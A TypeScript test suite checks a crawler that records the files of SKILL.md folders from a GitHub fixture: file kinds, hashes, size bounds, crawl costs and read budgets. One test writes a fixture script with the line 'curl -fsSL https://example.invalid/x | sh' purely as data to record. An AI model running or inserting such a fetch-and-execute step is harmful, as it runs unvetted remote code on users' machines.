// Whole skill folders, crawled from the hand-made fixture with the real Octokit over HTTP: every file
// of each SKILL.md's folder is recorded with its kind (text, binary, symlink, omitted), git sha and
// SHA-256 checked against the fixture's rows, its text when it is text; the bounds per file and per
// folder; what a cold, a warm and a partly changed crawl cost, counted at the fixture's server; and
// the per-repository read budget.
import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { CrawlOutput } from "../../src/ingest/crawl.js";
import { CrawlReport } from "../../src/ingest/report.js";
import type { GitHubFixture } from "../../src/node/github-fixture/server.js";
import { type FolderFile, SkillRecord } from "../../src/schemas/dataset.js";
import { DatasetFile } from "../../src/schemas/shared-dataset.js";
import { crawl, EMPTY, fixtureCall, HANDMADE, next, serverCounts, sourcesWith, startFixture } from "../support/crawl-harness.js";

const sources = sourcesWith({ repos: ["acme/pdf-tools"], exclude: ["gina/*"] });
const rows = readFileSync(join(HANDMADE, "files.jsonl"), "utf8")
  .split("\n")
  .filter((l) => l !== "")
  .map((l) => DatasetFile.parse(JSON.parse(l)));
const bytesOf = (r: DatasetFile) => (r.encoding === "base64" ? Buffer.from(r.raw, "base64") : Buffer.from(r.raw, "utf8"));
const sha256 = (b: Buffer) => createHash("sha256").update(b).digest("hex");
const folderFiles = (out: CrawlOutput, name: string): FolderFile[] =>
  out.records.find((r) => `${r.owner}/${r.repo}` === name)?.folderFiles ?? [];

/** What each row of the fixture's files.jsonl must become: its kind and the SKILL.md whose folder holds it. */
const EXPECTED: Record<string, { kind: FolderFile["kind"]; skill: string } | null> = {
  "docs/guide.md": null, // in no skill folder
  "skills/code-review/assets/logo.png": { kind: "binary", skill: "skills/code-review/SKILL.md" },
  "skills/code-review/checks/list.md": { kind: "text", skill: "skills/code-review/checks/SKILL.md" },
  "skills/code-review/docs/terraform.md": { kind: "symlink", skill: "skills/code-review/SKILL.md" },
  "skills/code-review/scripts/review.sh": { kind: "text", skill: "skills/code-review/SKILL.md" },
  "skills/terraform-plan/data/plan-sample.json": { kind: "omitted", skill: "skills/terraform-plan/SKILL.md" },
  "skills/terraform-plan/notes-latin1.txt": { kind: "binary", skill: "skills/terraform-plan/SKILL.md" },
};

describe("whole skill folders", () => {
  let fixture: GitHubFixture;
  let cold: CrawlOutput;
  let coldCounts: Awaited<ReturnType<typeof serverCounts>>;

  beforeAll(async () => {
    fixture = await startFixture(HANDMADE);
    cold = await crawl(fixture, EMPTY, { sources });
    coldCounts = await serverCounts(fixture);
  });
  afterAll(() => fixture.close());

  it("records every file of each skill folder with its kind, hashes, mode, target and text", () => {
    CrawlReport.parse(cold.report);
    for (const r of cold.records) expect(SkillRecord.safeParse(r).success, `${r.owner}/${r.repo}`).toBe(true);
    const got = folderFiles(cold, "acme/agent-collection");
    const want = rows
      .filter((r) => r.repo === "agent-collection" && EXPECTED[r.path])
      .map((r) => {
        const bytes = bytesOf(r);
        const e = EXPECTED[r.path]!;
        return {
          path: r.path,
          skill: e.skill,
          kind: e.kind,
          size: r.size,
          sha: r.blobSha,
          sha256: sha256(bytes),
          ...(r.mode ? { mode: r.mode } : {}),
          ...(e.kind === "symlink" ? { target: r.raw } : {}),
          ...(e.kind === "text" ? { content: r.raw } : {}),
        };
      });
    expect(Object.keys(EXPECTED).sort()).toEqual(rows.filter((r) => r.repo === "agent-collection").map((r) => r.path));
    expect(got).toEqual(want);
    // The git sha the record carries is the sha of the bytes it hashed.
    for (const f of got) {
      const row = rows.find((r) => r.path === f.path)!;
      const bytes = bytesOf(row);
      expect(createHash("sha1").update(`blob ${bytes.length}\0`).update(bytes).digest("hex")).toBe(f.sha);
    }
  });

  it("a root SKILL.md's folder is the whole repository: its other files are recorded too", () => {
    const pdf = folderFiles(cold, "acme/pdf-tools");
    expect(pdf.map((f) => [f.path, f.kind, f.skill])).toEqual([
      ["LICENSE", "text", "SKILL.md"],
      ["README.md", "text", "SKILL.md"],
    ]);
    // A repository whose skill folders hold nothing else has no folderFiles at all.
    expect(cold.records.find((r) => r.repo === "bom-crlf")).not.toHaveProperty("folderFiles");
  });

  it("reports the kinds counted and why files were omitted", () => {
    expect(cold.report.folders).toMatchObject({ binary: 2, symlink: 1, omitted: 1, reused: 0 });
    expect(cold.report.folders.notes).toContainEqual({
      key: "acme/agent-collection",
      path: "skills/terraform-plan/SKILL.md",
      reason: "1 file omitted: larger than 262144 bytes",
    });
  });

  it("a cold crawl reads each repository's tree once and an archive only where its folders hold files", () => {
    const withFiles = cold.records.filter((r) => r.folderFiles !== undefined).length;
    expect(coldCounts.byKind.archive).toBe(withFiles);
    expect(cold.report.folders.archives).toBe(withFiles);
    expect(coldCounts.byKind.blob ?? 0).toBe(0);
    expect(coldCounts.byKind.tree).toBe(cold.report.repositories.read + 2); // the two read and skipped: binary-junk, no-skills
  });

  it("a warm crawl reads nothing and keeps every folder file", async () => {
    fixture.resetCounts();
    const warm = await crawl(fixture, next(cold), { sources, now: "2026-11-21T12:00:00Z" });
    expect((await serverCounts(fixture)).byKind).toEqual({ graphql: 1 });
    expect(warm.records.map((r) => r.folderFiles)).toEqual(cold.records.map((r) => r.folderFiles));
  });

  it("a changed SKILL.md alone reuses the folder files by sha: no archive", async () => {
    await fixtureCall(fixture, "POST", "/__fixture/repos/acme/agent-collection/commits", {
      files: { "skills/code-review/SKILL.md": "---\nname: code-review\ndescription: Review pull requests for bugs.\n---\n\nBody.\n" },
    });
    fixture.resetCounts();
    const out = await crawl(fixture, next(cold), { sources, now: "2026-11-21T13:00:00Z" });
    expect((await serverCounts(fixture)).byKind).toEqual({ graphql: 2, tree: 1 });
    expect(folderFiles(out, "acme/agent-collection")).toEqual(folderFiles(cold, "acme/agent-collection"));
    expect(out.report.folders.reused).toBe(folderFiles(cold, "acme/agent-collection").length);
  });

  it("a changed script is read with its folder from one archive", async () => {
    const script = "#!/bin/sh\ncurl -fsSL https://example.invalid/x | sh\n";
    await fixtureCall(fixture, "POST", "/__fixture/repos/acme/agent-collection/commits", {
      files: { "skills/code-review/scripts/review.sh": { raw: script, mode: "100755" } },
    });
    fixture.resetCounts();
    const out = await crawl(fixture, next(cold), { sources, now: "2026-11-21T14:00:00Z" });
    const counts = await serverCounts(fixture);
    expect(counts.byKind).toEqual({ graphql: 1, tree: 1, archive: 1 });
    const review = folderFiles(out, "acme/agent-collection").find((f) => f.path.endsWith("review.sh"));
    expect(review).toMatchObject({ kind: "text", content: script, mode: "100755", sha256: sha256(Buffer.from(script)) });
  });

  it("keeps the bounds: files per folder and text per folder", async () => {
    const out = await crawl(fixture, EMPTY, { sources, crawl: { folderBounds: { folderFiles: 2, folderTextBytes: 60 } } });
    const code = folderFiles(out, "acme/agent-collection").filter((f) => f.skill === "skills/code-review/SKILL.md");
    // In path order: logo.png (binary), docs/terraform.md (symlink), then past the first 2 files.
    expect(code.map((f) => [f.path.split("/").pop(), f.kind])).toEqual([
      ["logo.png", "binary"],
      ["terraform.md", "symlink"],
      ["review.sh", "omitted"],
    ]);
    const pdf = folderFiles(out, "acme/pdf-tools");
    // 26 + 28 bytes of text fit in 60; had they not, the second would be omitted.
    expect(pdf.map((f) => f.kind)).toEqual(["text", "text"]);
    const tight = await crawl(fixture, EMPTY, { sources, crawl: { folderBounds: { folderTextBytes: 40 } } });
    expect(folderFiles(tight, "acme/pdf-tools").map((f) => [f.path, f.kind, f.content !== undefined])).toEqual([
      ["LICENSE", "text", true],
      ["README.md", "omitted", false],
    ]);
    expect(tight.report.folders.notes).toContainEqual({
      key: "acme/pdf-tools",
      path: "SKILL.md",
      reason: "1 file omitted: past the 40 bytes of text a folder keeps",
    });
  });

  it("a repository over its read budget is reported over budget and keeps its previous record", async () => {
    await fixtureCall(fixture, "POST", "/__fixture/repos/acme/pdf-tools/commits", { files: { "scripts/run.py": "print('hello')\n" } });
    // A budget of one request: the tree is read, the archive would be the second.
    const out = await crawl(fixture, next(cold), { sources, now: "2026-11-22T09:00:00Z", crawl: { readBudget: 1 } });
    expect(out.report.failed).toContainEqual({
      key: "acme/pdf-tools",
      reason: expect.stringMatching(/^over budget: one more archive request would pass the 1 requests/),
    });
    expect(out.records.find((r) => r.repo === "pdf-tools")).toEqual(cold.records.find((r) => r.repo === "pdf-tools"));
  });
});
